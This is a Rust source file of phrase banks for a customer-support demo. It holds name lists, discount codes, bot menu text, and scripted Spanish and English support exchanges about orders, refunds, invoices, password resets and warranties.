//! Phrase banks of the demo: names, support conversations in Spanish and English,
//! bot turns, internal notes and canned answers. Placeholders in `{braces}` are filled
//! per conversation (see `fill`); snippet bodies keep `{{double braces}}` for the app.

/// Spanish first names (Spain). "Claudio" is reserved for the story's customer.
pub(super) const FIRST_ES: &[&str] = &[
    "Lucía",
    "María",
    "Carmen",
    "Laura",
    "Paula",
    "Elena",
    "Sara",
    "Marta",
    "Irene",
    "Cristina",
    "Nuria",
    "Rocío",
    "Pilar",
    "Inés",
    "Alba",
    "Noelia",
    "Beatriz",
    "Raquel",
    "Silvia",
    "Teresa",
    "Javier",
    "Alejandro",
    "Daniel",
    "Pablo",
    "Sergio",
    "Adrián",
    "David",
    "Álvaro",
    "Jorge",
    "Manuel",
    "Íñigo",
    "Rubén",
    "Carlos",
    "Miguel",
    "Andrés",
    "Raúl",
    "Óscar",
    "Fernando",
    "Guillermo",
    "Joaquín",
    "Jesús",
    "Ramón",
    "Ángel",
    "Víctor",
    "Hugo",
    "Mario",
];

/// Latin-American first names (Mexico and around).
pub(super) const FIRST_LATAM: &[&str] = &[
    "Ximena",
    "Guadalupe",
    "Valentina",
    "Camila",
    "Fernanda",
    "Itzel",
    "Daniela",
    "Renata",
    "Mariana",
    "Sofía",
    "Emiliano",
    "Santiago",
    "Diego",
    "Mateo",
    "Leonardo",
    "Rodrigo",
    "Joaquín",
    "Iker",
    "Sebastián",
    "Tomás",
];

pub(super) const LAST_ES: &[&str] = &[
    "García",
    "Fernández",
    "González",
    "Rodríguez",
    "López",
    "Martínez",
    "Sánchez",
    "Gómez",
    "Martín",
    "Jiménez",
    "Hernández",
    "Ruiz",
    "Díaz",
    "Moreno",
    "Muñoz",
    "Álvarez",
    "Romero",
    "Alonso",
    "Gutiérrez",
    "Navarro",
    "Torres",
    "Domínguez",
    "Vázquez",
    "Ramos",
    "Gil",
    "Ramírez",
    "Serrano",
    "Blanco",
    "Molina",
    "Morales",
    "Suárez",
    "Ortega",
    "Delgado",
    "Castro",
    "Ortiz",
    "Rubio",
    "Marín",
    "Sanz",
    "Núñez",
    "Iglesias",
    "Medina",
    "Garrido",
    "Cortés",
    "Castillo",
    "Santos",
    "Lozano",
    "Guerrero",
    "Cano",
    "Prieto",
    "Méndez",
    "Cruz",
    "Calvo",
    "Gallego",
    "Vidal",
    "León",
    "Herrera",
    "Peña",
    "Flores",
    "Cabrera",
    "Campos",
    "Vega",
    "Fuentes",
    "Carrasco",
    "Aguilar",
    "Pascual",
    "Ibáñez",
    "Echeverría",
    "Salazar",
    "Villanueva",
    "Quintero",
];

pub(super) const FIRST_EN: &[&str] = &[
    "Emma",
    "Olivia",
    "Amelia",
    "Isla",
    "Sophie",
    "Grace",
    "Chloe",
    "Hannah",
    "Lucy",
    "Megan",
    "Charlotte",
    "Jessica",
    "Oliver",
    "George",
    "Harry",
    "Jack",
    "Thomas",
    "James",
    "William",
    "Daniel",
    "Samuel",
    "Joseph",
    "Henry",
    "Ethan",
    "Liam",
    "Noah",
    "Owen",
    "Ryan",
    "Connor",
    "Rachel",
];

pub(super) const LAST_EN: &[&str] = &[
    "Smith", "Jones", "Williams", "Brown", "Taylor", "Davies", "Evans", "Wilson", "Thomas", "Johnson", "Roberts",
    "Walker", "Wright", "Robinson", "Thompson", "White", "Hughes", "Edwards", "Green", "Hall", "Wood", "Harris",
    "Clarke", "Jackson", "Turner", "Hill", "Moore", "Cooper", "Ward", "Morris", "Baker", "Murphy", "O'Brien", "Kelly",
];

pub(super) const EMAIL_DOMAINS: &[&str] = &["example.com", "example.org", "example.net"];

pub(super) const DISCOUNT_CODES: &[&str] = &["VERANO15", "BIENVENIDA10", "BLACK20", "ENVIOGRATIS", "PRIMAVERA12"];

/// One support topic in one language. Slots follow the shape of a real exchange:
/// the customer opens, the agent replies (often asking for something), the customer
/// follows up, the agent resolves, the customer thanks; a shared closing ends it.
/// Variant `i` of every slot belongs to the same exchange (the answer to question `i`
/// is follow-up `i`), so a conversation uses one variant index throughout.
#[derive(Debug)]
pub(super) struct Script {
    pub subject: &'static str,
    pub open: &'static [&'static str],
    pub reply: &'static [&'static str],
    pub follow: &'static [&'static str],
    pub resolve: &'static [&'static str],
    pub thanks: &'static [&'static str],
    pub note: &'static [&'static str],
    pub summary: &'static str,
}

#[derive(Debug)]
pub(super) struct Topic {
    /// Which menu option a customer picks when a bot greets them.
    pub bot_option: usize,
    pub team: &'static str,
    pub es: Script,
    pub en: Script,
}

pub(super) const TOPIC_DISCOUNT: usize = 8;

pub(super) const TOPICS: &[Topic] = &[
    // 0: order not arrived
    Topic {
        bot_option: 1,
        team: "Soporte",
        es: Script {
            subject: "Pedido {order} sin recibir",
            open: &[
                "Hola, hice el pedido {order} hace más de una semana y todavía no me ha llegado. En el seguimiento pone \"en reparto\" desde hace tres días. ¿Qué pasa?",
                "Buenas, mi pedido {order} tenía que llegar el martes y no tengo noticias. ¿Me podéis decir dónde está?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Siento mucho el retraso. ¿Me confirmas la dirección de entrega y un teléfono de contacto para hablar con el transportista?",
                "Hola {name}, gracias por escribirnos. Estoy revisando el envío del pedido {order} con el transportista. ¿Has recibido algún aviso de entrega fallida?",
            ],
            follow: &[
                "La dirección es la de siempre, calle Mayor 12, 3º B. El teléfono, el de mi cuenta.",
                "No, ningún aviso. Ayer estuve en casa toda la tarde.",
            ],
            resolve: &[
                "Gracias, {name}. El paquete se quedó retenido en la delegación del transportista. Lo han vuelto a poner en reparto con el número de seguimiento {tracking} y debería llegarte mañana. ¿Te puedo ayudar con algo más?",
                "Ya lo tengo: el transportista extravió el paquete, así que te hemos enviado uno nuevo sin coste con el seguimiento {tracking}. Llegará en 24-48 horas.",
            ],
            thanks: &["Perfecto, muchas gracias por la rapidez.", "Vale, quedo atento al envío. ¡Gracias!"],
            note: &[
                "Abierta incidencia con el transportista (ref. {tracking}). Si no hay movimiento en 48 h, reenviar el pedido.",
                "Cliente habitual, tercer pedido este año. Priorizar el reenvío si el transportista no responde.",
            ],
            summary: "Pedido {order} no ha llegado",
        },
        en: Script {
            subject: "Order {order} not received",
            open: &[
                "Hi, I placed order {order} over a week ago and it still hasn't arrived. Tracking has said \"out for delivery\" for three days. What's going on?",
                "Hello, my order {order} was due on Tuesday and I haven't heard anything. Can you tell me where it is?",
            ],
            reply: &[
                "Hi {name}, {agent} here. I'm really sorry about the delay. Could you confirm your delivery address and a phone number the courier can call?",
                "Hi {name}, thanks for getting in touch. I'm checking order {order} with the courier now. Did you get a missed-delivery card?",
            ],
            follow: &[
                "Same address as always, 14 Station Road. The phone number is the one on my account.",
                "No card at all. I was home all afternoon yesterday.",
            ],
            resolve: &[
                "Thanks, {name}. The parcel was held at the courier's depot. It's back out for delivery with tracking number {tracking} and should reach you tomorrow. Anything else I can help with?",
                "Found it: the courier lost the parcel, so we've sent you a new one free of charge, tracking {tracking}. It should arrive within 1-2 working days.",
            ],
            thanks: &["Perfect, thanks for sorting it so quickly.", "OK, I'll keep an eye out for it. Thank you!"],
            note: &[
                "Claim opened with the courier (ref {tracking}). If nothing moves in 48 h, resend the order.",
                "Repeat customer, third order this year. Prioritise the resend if the courier doesn't reply.",
            ],
            summary: "Order {order} not delivered",
        },
    },
    // 1: wrong size / exchange
    Topic {
        bot_option: 2,
        team: "Soporte",
        es: Script {
            subject: "Cambio de talla del pedido {order}",
            open: &[
                "Hola, me ha llegado el pedido {order} pero las zapatillas me quedan pequeñas. ¿Puedo cambiarlas por una talla más?",
                "Buenas tardes, pedí una chaqueta talla M y me ha llegado una S. ¿Cómo hago el cambio?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Claro que sí, el cambio de talla es gratuito. ¿Qué talla necesitas? ¿Prefieres que pase un mensajero a recogerlo o dejarlo en un punto de recogida?",
                "Hola {name}, disculpa el error. ¿Me confirmas el número de pedido y si el artículo está sin usar y con la etiqueta?",
            ],
            follow: &[
                "Necesitaría la 43. Prefiero que pase el mensajero por casa, por las mañanas.",
                "Sí, está sin estrenar y con la etiqueta. Es el pedido {order}.",
            ],
            resolve: &[
                "Hecho, {name}. Te he enviado por email la etiqueta de devolución y el mensajero pasará mañana por la mañana. La talla nueva sale hoy mismo con el seguimiento {tracking}.",
                "Listo: he preparado el cambio y el mensajero recogerá el artículo cuando te entregue el nuevo. No tienes que pagar nada.",
            ],
            thanks: &["Muchas gracias, así da gusto.", "Vale, perfecto. ¡Gracias!"],
            note: &[
                "Error de almacén: se envió la talla equivocada. Avisado a logística.",
                "Cambio gratuito aprobado; el cliente no paga la recogida.",
            ],
            summary: "Cambio de talla del pedido {order}",
        },
        en: Script {
            subject: "Exchanging the size of order {order}",
            open: &[
                "Hi, order {order} arrived but the trainers are too small. Can I swap them for a size up?",
                "Good afternoon, I ordered a jacket in M and received an S. How do I exchange it?",
            ],
            reply: &[
                "Hi {name}, {agent} here. Of course, size exchanges are free. Which size do you need, and would you like a courier pickup or to drop it at a collection point?",
                "Hi {name}, sorry about the mix-up. Could you confirm the order number and that the item is unworn with the tag still on?",
            ],
            follow: &[
                "I'd need a 10. A courier pickup would be great, mornings are best.",
                "Yes, unworn with the tag. It's order {order}.",
            ],
            resolve: &[
                "Done, {name}. I've emailed you the return label and the courier will come tomorrow morning. The new size ships today with tracking {tracking}.",
                "All set: the courier will collect the item when they deliver the new one. There's nothing to pay.",
            ],
            thanks: &["Thank you, that's brilliant service.", "OK, perfect. Thanks!"],
            note: &[
                "Warehouse error: wrong size shipped. Logistics informed.",
                "Free exchange approved; the customer doesn't pay for the pickup.",
            ],
            summary: "Size exchange for order {order}",
        },
    },
    // 2: refund status
    Topic {
        bot_option: 3,
        team: "Facturación",
        es: Script {
            subject: "¿Cuándo recibo el reembolso del pedido {order}?",
            open: &[
                "Hola, devolví el pedido {order} hace dos semanas y todavía no he recibido el reembolso. ¿Me decís algo?",
                "Buenos días. Os envié la devolución hace 10 días y en la app pone \"en proceso\". ¿Cuándo me devolvéis el dinero?",
            ],
            reply: &[
                "Hola {name}, soy {agent}, del equipo de Facturación. Veo la devolución del pedido {order}. ¿Pagaste con tarjeta o con PayPal?",
                "Hola {name}, gracias por escribir. Estoy comprobando el estado del reembolso; ¿me confirmas los últimos cuatro dígitos de la tarjeta con la que pagaste?",
            ],
            follow: &["Con PayPal, con este mismo correo.", "La tarjeta termina en 4821."],
            resolve: &[
                "Gracias. El almacén recibió la devolución el día 3 y el reembolso de {amount} se emitió ayer. Según el banco, puede tardar de 3 a 5 días hábiles en verse en tu cuenta.",
                "Ya está: se había quedado bloqueado en una revisión de calidad. Acabo de emitir el reembolso de {amount}; lo verás en 2-3 días hábiles.",
            ],
            thanks: &["Vale, estaré pendiente. Gracias.", "Perfecto, gracias por la ayuda."],
            note: &[
                "Reembolso de {amount} emitido manualmente; la devolución estaba atascada en control de calidad.",
                "Revisado con Facturación: el abono sale en la remesa del jueves.",
            ],
            summary: "Estado del reembolso del pedido {order}",
        },
        en: Script {
            subject: "When will I get my refund for order {order}?",
            open: &[
                "Hi, I returned order {order} two weeks ago and still haven't had my refund. Any news?",
                "Good morning. I sent the return back 10 days ago and the app still says \"processing\". When will I get my money back?",
            ],
            reply: &[
                "Hi {name}, {agent} from the Billing team here. I can see the return for order {order}. Did you pay by card or PayPal?",
                "Hi {name}, thanks for writing in. I'm checking the refund now; could you confirm the last four digits of the card you paid with?",
            ],
            follow: &["PayPal, same email as this one.", "The card ends in 4821."],
            resolve: &[
                "Thanks. The warehouse received your return on the 3rd and the refund of {amount} was issued yesterday. Your bank may take 3-5 working days to show it.",
                "Sorted: it had been held for a quality check. I've just issued the refund of {amount}; you'll see it in 2-3 working days.",
            ],
            thanks: &["OK, I'll keep an eye out. Thanks.", "Perfect, thanks for your help."],
            note: &[
                "Refund of {amount} issued manually; the return was stuck in quality control.",
                "Checked with Billing: the credit goes out in Thursday's batch.",
            ],
            summary: "Refund status for order {order}",
        },
    },
    // 3: invoice
    Topic {
        bot_option: 3,
        team: "Facturación",
        es: Script {
            subject: "Factura del pedido {order}",
            open: &[
                "Hola, necesito la factura del pedido {order} a nombre de mi empresa. El CIF es B12345678.",
                "Buenas, en la factura {invoice} aparece mal mi dirección fiscal. ¿Me la podéis corregir?",
            ],
            reply: &[
                "Hola {name}, soy {agent}, de Facturación. Por supuesto. ¿Me indicas la razón social y la dirección fiscal completa?",
                "Hola {name}, sin problema. Para emitir la factura rectificativa necesito la dirección fiscal correcta, ¿me la pasas?",
            ],
            follow: &[
                "Razón social: Talleres Norte S.L., calle Industria 45, 28020 Madrid.",
                "La correcta es avenida de la Constitución 8, 41001 Sevilla.",
            ],
            resolve: &[
                "Hecho, {name}. Te he enviado por email la factura {invoice} a nombre de Talleres Norte S.L. También la tienes en tu cuenta, en \"Mis pedidos\".",
                "Listo: he emitido la factura rectificativa de la {invoice} con la dirección correcta y te la he enviado a este correo. ¿Necesitas algo más?",
            ],
            thanks: &["Recibida, todo correcto. Gracias.", "Perfecto, muchas gracias."],
            note: &[
                "Factura rectificativa {invoice} emitida. Contabilidad la cuadra a fin de mes.",
                "Cliente empresa: añadir el CIF en la ficha para las próximas facturas.",
            ],
            summary: "Factura del pedido {order}",
        },
        en: Script {
            subject: "Invoice for order {order}",
            open: &[
                "Hi, I need an invoice for order {order} in my company's name. Our VAT number is GB123456789.",
                "Hello, invoice {invoice} has the wrong billing address. Can you correct it?",
            ],
            reply: &[
                "Hi {name}, {agent} from Billing here. Of course. Could you send me the company name and full billing address?",
                "Hi {name}, no problem. To issue a corrected invoice I need the right billing address, could you send it over?",
            ],
            follow: &[
                "Company: Northgate Ltd, 45 Mill Lane, Leeds LS1 4AB.",
                "The correct one is 8 Queen Street, Bristol BS1 4DU.",
            ],
            resolve: &[
                "Done, {name}. I've emailed you invoice {invoice} in the name of Northgate Ltd. It's also in your account under \"My orders\".",
                "All set: I've issued a corrected version of invoice {invoice} with the right address and sent it to this email. Anything else?",
            ],
            thanks: &["Received, all correct. Thanks.", "Perfect, thank you very much."],
            note: &[
                "Corrected invoice {invoice} issued. Accounting reconciles it at month end.",
                "Business customer: add the VAT number to the profile for future invoices.",
            ],
            summary: "Invoice for order {order}",
        },
    },
    // 4: password reset
    Topic {
        bot_option: 4,
        team: "Soporte",
        es: Script {
            subject: "No puedo entrar en mi cuenta",
            open: &[
                "Hola, no puedo entrar en mi cuenta. Le doy a \"He olvidado mi contraseña\" pero no me llega ningún correo.",
                "Buenas, me dice que la contraseña es incorrecta y al restablecerla el enlace ha caducado. ¿Me ayudáis?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. ¿Me confirmas el correo con el que te registraste? A veces el email de restablecimiento acaba en la carpeta de spam.",
                "Hola {name}, lo siento. Los enlaces caducan a los 30 minutos. ¿Con qué correo tienes la cuenta?",
            ],
            follow: &[
                "Con este mismo correo. En spam no hay nada.",
                "Con el de siempre, el mismo desde el que os escribo.",
            ],
            resolve: &[
                "Gracias. Tu correo estaba en la lista de rebotes por un fallo antiguo; ya lo he quitado y te acabo de enviar un enlace nuevo, válido durante 30 minutos.",
                "Te he enviado un enlace nuevo ahora mismo. Si no llega en 5 minutos, dímelo y lo revisamos.",
            ],
            thanks: &["Ya he podido entrar, ¡gracias!", "Funciona, mil gracias."],
            note: &[
                "El correo del cliente estaba en la lista de supresión del proveedor de email. Eliminado.",
                "Revisar con sistemas: segundo caso hoy de enlaces de restablecimiento que no llegan.",
            ],
            summary: "Restablecer la contraseña",
        },
        en: Script {
            subject: "I can't log in to my account",
            open: &[
                "Hi, I can't log in. I click \"Forgot password\" but no email ever arrives.",
                "Hello, it says my password is wrong and the reset link has expired. Can you help?",
            ],
            reply: &[
                "Hi {name}, {agent} here. Could you confirm the email address you signed up with? Sometimes the reset email ends up in spam.",
                "Hi {name}, sorry about that. Reset links expire after 30 minutes. Which email is your account under?",
            ],
            follow: &["This same address. Nothing in spam.", "The usual one, the one I'm writing from."],
            resolve: &[
                "Thanks. Your address was on a bounce list after an old error; I've removed it and sent you a fresh link, valid for 30 minutes.",
                "I've just sent you a new link. If it hasn't arrived in 5 minutes, let me know and we'll look into it.",
            ],
            thanks: &["I'm in, thanks!", "It works, thanks a lot."],
            note: &[
                "Customer's address was on the email provider's suppression list. Removed.",
                "Check with IT: second case today of reset emails not arriving.",
            ],
            summary: "Password reset",
        },
    },
    // 5: damaged product
    Topic {
        bot_option: 2,
        team: "Soporte",
        es: Script {
            subject: "Producto dañado en el pedido {order}",
            open: &[
                "Hola, el pedido {order} ha llegado con la caja aplastada y la lámpara rota. Os adjunto fotos.",
                "Buenas, acabo de abrir el paquete y una taza del juego de café viene rajada. ¿Qué hago?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Lo siento mucho, no es la experiencia que queremos que tengas. ¿Prefieres que te enviemos uno nuevo o el reembolso?",
                "Hola {name}, qué rabia, lo siento. ¿Me puedes mandar una foto del producto y de la caja para tramitarlo con el transportista?",
            ],
            follow: &[
                "Prefiero uno nuevo, era un regalo.",
                "Ahí van las fotos. Se ve que el golpe fue en una esquina.",
            ],
            resolve: &[
                "Hecho, {name}. Te enviamos uno nuevo hoy mismo sin coste (seguimiento {tracking}) y no hace falta que devuelvas el roto. Como compensación, tienes un 10 % de descuento en tu próximo pedido.",
                "Gracias por las fotos. Ya he tramitado el envío de sustitución; llegará en 24-48 horas y el transportista recogerá el dañado a la vez.",
            ],
            thanks: &["Muchas gracias, muy amables.", "Genial, gracias por solucionarlo tan rápido."],
            note: &[
                "Daño en transporte. Abierta reclamación al transportista con las fotos del cliente.",
                "Sin devolución del artículo roto: sale más barato que la recogida.",
            ],
            summary: "Producto dañado en el pedido {order}",
        },
        en: Script {
            subject: "Damaged item in order {order}",
            open: &[
                "Hi, order {order} arrived with the box crushed and the lamp broken. Photos attached.",
                "Hello, I've just opened the parcel and one of the mugs in the coffee set is cracked. What should I do?",
            ],
            reply: &[
                "Hi {name}, {agent} here. I'm so sorry, that's not the experience we want you to have. Would you prefer a replacement or a refund?",
                "Hi {name}, how frustrating, sorry. Could you send a photo of the item and the box so I can raise it with the courier?",
            ],
            follow: &[
                "A replacement please, it was a present.",
                "Here are the photos. Looks like it took a knock on one corner.",
            ],
            resolve: &[
                "Done, {name}. A new one ships today free of charge (tracking {tracking}) and there's no need to return the broken one. For the trouble, here's 10% off your next order.",
                "Thanks for the photos. The replacement is on its way and will arrive in 1-2 working days; the courier will collect the damaged one at the same time.",
            ],
            thanks: &["Thank you, that's very kind.", "Great, thanks for sorting it so fast."],
            note: &[
                "Transit damage. Claim opened with the courier using the customer's photos.",
                "No return of the broken item: cheaper than a pickup.",
            ],
            summary: "Damaged item in order {order}",
        },
    },
    // 6: delivery address change
    Topic {
        bot_option: 1,
        team: "Soporte",
        es: Script {
            subject: "Cambiar la dirección de entrega del pedido {order}",
            open: &[
                "Hola, me he equivocado al poner la dirección del pedido {order}. ¿Se puede cambiar antes de que salga?",
                "Buenas, esta semana no voy a estar en casa. ¿Podéis enviar el pedido {order} a mi oficina?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Si el pedido no ha salido del almacén, sí. ¿Cuál es la dirección nueva?",
                "Hola {name}, claro. Pásame la dirección completa con código postal y lo cambio ahora mismo.",
            ],
            follow: &[
                "Calle de Alcalá 120, 5º izquierda, 28009 Madrid.",
                "Es paseo de Gracia 55, planta 2, 08007 Barcelona. Horario de 9 a 18.",
            ],
            resolve: &[
                "Cambiado, {name}. El pedido {order} sale hoy hacia la dirección nueva y te llegará el email con el seguimiento.",
                "Lo siento, el pedido ya había salido, pero he pedido al transportista que lo redirija a la dirección nueva. Puede tardar un día más.",
            ],
            thanks: &["Perfecto, gracias.", "Vale, no pasa nada. ¡Gracias!"],
            note: &[
                "Dirección modificada en el ERP antes de la preparación.",
                "Solicitada la redirección al transportista; pendiente de confirmación.",
            ],
            summary: "Cambio de dirección del pedido {order}",
        },
        en: Script {
            subject: "Change the delivery address of order {order}",
            open: &[
                "Hi, I put the wrong address on order {order}. Can it be changed before it ships?",
                "Hello, I won't be home this week. Could you send order {order} to my office instead?",
            ],
            reply: &[
                "Hi {name}, {agent} here. If it hasn't left the warehouse yet, yes. What's the new address?",
                "Hi {name}, of course. Send me the full address with postcode and I'll change it straight away.",
            ],
            follow: &[
                "Flat 5, 120 High Street, Manchester M4 1HQ.",
                "It's 55 King's Road, 2nd floor, London SW3 4ND. Open 9 to 6.",
            ],
            resolve: &[
                "Changed, {name}. Order {order} ships today to the new address and you'll get the tracking email.",
                "Sorry, it had already shipped, but I've asked the courier to redirect it to the new address. It may take one extra day.",
            ],
            thanks: &["Perfect, thanks.", "OK, no problem. Thanks!"],
            note: &[
                "Address updated in the ERP before picking.",
                "Redirect requested from the courier; waiting for confirmation.",
            ],
            summary: "Address change for order {order}",
        },
    },
    // 7: subscription cancel
    Topic {
        bot_option: 3,
        team: "Facturación",
        es: Script {
            subject: "Cancelar la suscripción",
            open: &[
                "Hola, quiero cancelar la suscripción mensual. No encuentro dónde se hace en la web.",
                "Buenas, me habéis cobrado otra vez la suscripción y pensaba que la había cancelado. ¿Me lo podéis mirar?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Siento que te vayas. ¿Me confirmas el correo de la cuenta? Si quieres, también puedo pausarla unos meses en lugar de cancelarla.",
                "Hola {name}, lo reviso ahora mismo. ¿Me dices la fecha del cobro y el importe?",
            ],
            follow: &["Prefiero cancelarla, gracias. Es este mismo correo.", "Fue el día 1, {amount}."],
            resolve: &[
                "Hecho: la suscripción queda cancelada y no habrá más cobros. Seguirás teniendo acceso hasta final de mes.",
                "Tienes razón, la cancelación no se completó por un error nuestro. La he cancelado y te he devuelto los {amount}; los verás en 3-5 días hábiles.",
            ],
            thanks: &["Gracias por la gestión.", "Muy bien, gracias por devolverlo."],
            note: &[
                "Ofrecida una pausa de 3 meses; el cliente prefiere cancelar.",
                "Fallo en la baja desde la app: reportado a producto.",
            ],
            summary: "Cancelación de la suscripción",
        },
        en: Script {
            subject: "Cancel my subscription",
            open: &[
                "Hi, I'd like to cancel my monthly subscription. I can't find where to do it on the website.",
                "Hello, you've charged me for the subscription again and I thought I'd cancelled it. Could you check?",
            ],
            reply: &[
                "Hi {name}, {agent} here. Sorry to see you go. Could you confirm the account email? I can also pause it for a few months instead, if you prefer.",
                "Hi {name}, I'm checking now. Could you tell me the date and amount of the charge?",
            ],
            follow: &["I'd rather cancel, thanks. It's this email.", "It was on the 1st, {amount}."],
            resolve: &[
                "Done: the subscription is cancelled and there will be no further charges. You keep access until the end of the month.",
                "You're right, the cancellation didn't go through because of an error on our side. I've cancelled it and refunded the {amount}; you'll see it in 3-5 working days.",
            ],
            thanks: &["Thanks for handling it.", "Great, thanks for the refund."],
            note: &[
                "Offered a 3-month pause; the customer prefers to cancel.",
                "Cancellation from the app failed: reported to product.",
            ],
            summary: "Subscription cancellation",
        },
    },
    // 8: discount code (TOPIC_DISCOUNT)
    Topic {
        bot_option: 4,
        team: "Soporte",
        es: Script {
            subject: "El código de descuento {code} no funciona",
            open: &[
                "Hola, estoy intentando usar el código {code} y me dice que no es válido. Me llegó ayer en la newsletter.",
                "Buenas, el cupón {code} no se aplica en el carrito. ¿Está caducado?",
            ],
            reply: &[
                "Hola {name}, soy {agent}. El código {code} es para pedidos de más de 50 €. ¿Me dices qué tienes en el carrito?",
                "Hola {name}, gracias por avisar. ¿Me mandas una captura del error que te sale?",
            ],
            follow: &[
                "Tengo unas zapatillas de 64,90 €, así que debería valer.",
                "Pone \"Código no válido para estos productos\".",
            ],
            resolve: &[
                "Tienes razón, era un fallo de configuración con los artículos rebajados. Ya está corregido; prueba de nuevo y debería aplicarse.",
                "Como el código no se aplicaba por un error nuestro, te he creado uno personal: {code}-VIP, con el mismo descuento y válido 7 días.",
            ],
            thanks: &["Ahora sí funciona, ¡gracias!", "Perfecto, ya he hecho el pedido. Gracias."],
            note: &[
                "Error en la regla del cupón {code}: excluía los artículos rebajados. Avisado a marketing.",
                "Creado un cupón personal de un solo uso.",
            ],
            summary: "Código de descuento {code}",
        },
        en: Script {
            subject: "Discount code {code} isn't working",
            open: &[
                "Hi, I'm trying to use code {code} and it says it's not valid. I got it in yesterday's newsletter.",
                "Hello, coupon {code} won't apply in my basket. Has it expired?",
            ],
            reply: &[
                "Hi {name}, {agent} here. Code {code} is for orders over €50. What's in your basket?",
                "Hi {name}, thanks for letting us know. Could you send a screenshot of the error?",
            ],
            follow: &[
                "A pair of trainers at €64.90, so it should work.",
                "It says \"Code not valid for these products\".",
            ],
            resolve: &[
                "You're right, it was a configuration error with sale items. It's fixed now; try again and it should apply.",
                "Since the code didn't work because of our mistake, I've created a personal one for you: {code}-VIP, same discount, valid for 7 days.",
            ],
            thanks: &["It works now, thanks!", "Perfect, order placed. Thanks."],
            note: &[
                "Coupon {code} rule excluded sale items. Marketing informed.",
                "Created a single-use personal coupon.",
            ],
            summary: "Discount code {code}",
        },
    },
    // 9: warranty
    Topic {
        bot_option: 4,
        team: "Soporte",
        es: Script {
            subject: "Garantía del pedido {order}",
            open: &[
                "Hola, compré unos auriculares hace 8 meses (pedido {order}) y el lado izquierdo ha dejado de sonar. ¿Entra en la garantía?",
                "Buenas, la cafetera que os compré el año pasado ya no calienta. Tengo la factura {invoice}.",
            ],
            reply: &[
                "Hola {name}, soy {agent}. Sí, tienes 3 años de garantía. ¿Me describes el fallo y me confirmas el número de serie? Está en la etiqueta de la base.",
                "Hola {name}, lo siento. Está dentro de la garantía. ¿Puedes enviarme una foto de la etiqueta con el número de serie?",
            ],
            follow: &[
                "El número de serie es SN-4471-0921. Simplemente dejó de sonar de un día para otro.",
                "Adjunto la foto de la etiqueta.",
            ],
            resolve: &[
                "Gracias, {name}. He abierto la reparación en garantía: el mensajero recogerá el producto el jueves y en unos 10 días lo tendrás reparado o sustituido, sin coste.",
                "Como ese modelo ya no se fabrica, te enviamos el modelo nuevo equivalente sin coste. Sale hoy con el seguimiento {tracking}.",
            ],
            thanks: &["Genial, muchas gracias.", "Qué bien, no me lo esperaba. ¡Gracias!"],
            note: &[
                "Garantía validada con el número de serie. RMA abierto con el fabricante.",
                "Modelo descatalogado: sustitución por el equivalente aprobada por el responsable.",
            ],
            summary: "Garantía del pedido {order}",
        },
        en: Script {
            subject: "Warranty claim for order {order}",
            open: &[
                "Hi, I bought headphones 8 months ago (order {order}) and the left side has stopped working. Is that covered by the warranty?",
                "Hello, the coffee maker I bought from you last year no longer heats up. I have invoice {invoice}.",
            ],
            reply: &[
                "Hi {name}, {agent} here. Yes, you have a 3-year warranty. Could you describe the fault and confirm the serial number? It's on the label underneath.",
                "Hi {name}, sorry to hear that. It's within warranty. Could you send me a photo of the label with the serial number?",
            ],
            follow: &["Serial number SN-4471-0921. It just stopped working one day.", "Photo of the label attached."],
            resolve: &[
                "Thanks, {name}. I've opened a warranty repair: the courier will collect it on Thursday and you'll have it repaired or replaced within about 10 days, free of charge.",
                "That model is discontinued, so we're sending you the equivalent new model free of charge. It ships today with tracking {tracking}.",
            ],
            thanks: &["Brilliant, thanks a lot.", "Oh great, I didn't expect that. Thanks!"],
            note: &[
                "Warranty validated with the serial number. RMA opened with the manufacturer.",
                "Discontinued model: like-for-like replacement approved by the team lead.",
            ],
            summary: "Warranty claim for order {order}",
        },
    },
];

pub(super) const CLOSE_ES: &[&str] = &[
    "¡Gracias a ti, {name}! Si necesitas cualquier otra cosa, aquí estamos. Que tengas un buen día.",
    "Un placer ayudarte, {name}. Cierro la conversación; si surge algo más, escríbenos cuando quieras.",
    "¡Genial! Cualquier cosa, nos dices.",
];
pub(super) const CLOSE_EN: &[&str] = &[
    "Thank you, {name}! If you need anything else, we're here. Have a lovely day.",
    "Happy to help, {name}. I'll close this conversation; just write back if anything else comes up.",
    "Great! Any other questions, just let us know.",
];

/// A customer writing again while nobody has answered yet.
pub(super) const NUDGE_CHAT_ES: &[&str] =
    &["¿Hola? ¿Hay alguien?", "Sigo esperando respuesta, por favor.", "Es bastante urgente, gracias."];
pub(super) const NUDGE_CHAT_EN: &[&str] =
    &["Hello? Is anyone there?", "Still waiting for an answer, please.", "It's quite urgent, thanks."];
pub(super) const NUDGE_EMAIL_ES: &[&str] = &[
    "Vuelvo a escribiros porque todavía no he tenido respuesta. ¿Podéis revisarlo, por favor?",
    "¿Alguna novedad sobre mi consulta? Gracias.",
];
pub(super) const NUDGE_EMAIL_EN: &[&str] = &[
    "Following up on my email below as I haven't heard back yet. Could you take a look, please?",
    "Any update on my query? Thanks.",
];

pub(super) const BOT_MENU_ES: &str = "¡Hola! Soy el asistente virtual de Tienda. ¿En qué puedo ayudarte?\n1. Dónde está mi pedido\n2. Cambios y devoluciones\n3. Facturas y pagos\n4. Hablar con una persona";
pub(super) const BOT_MENU_EN: &str = "Hi! I'm Tienda's virtual assistant. How can I help?\n1. Where is my order\n2. Exchanges and returns\n3. Invoices and payments\n4. Talk to a person";
pub(super) const BOT_OPTIONS_ES: &[&str] =
    &["Dónde está mi pedido", "Cambios y devoluciones", "Facturas y pagos", "Hablar con una persona"];
pub(super) const BOT_OPTIONS_EN: &[&str] =
    &["Where is my order", "Exchanges and returns", "Invoices and payments", "Talk to a person"];
pub(super) const BOT_HANDOFF_ES: &str = "Gracias. Te paso con una persona del equipo: {agent} te atenderá en un momento. Mientras tanto, cuéntale tu consulta.";
pub(super) const BOT_HANDOFF_EN: &str = "Thanks. I'm passing you to a member of the team: {agent} will be with you shortly. Meanwhile, tell them what you need.";

/// Email sign-offs (the text around the body of an email message).
pub(super) const SIGN_CUSTOMER_ES: &str = "Un saludo,";
pub(super) const SIGN_CUSTOMER_EN: &str = "Kind regards,";
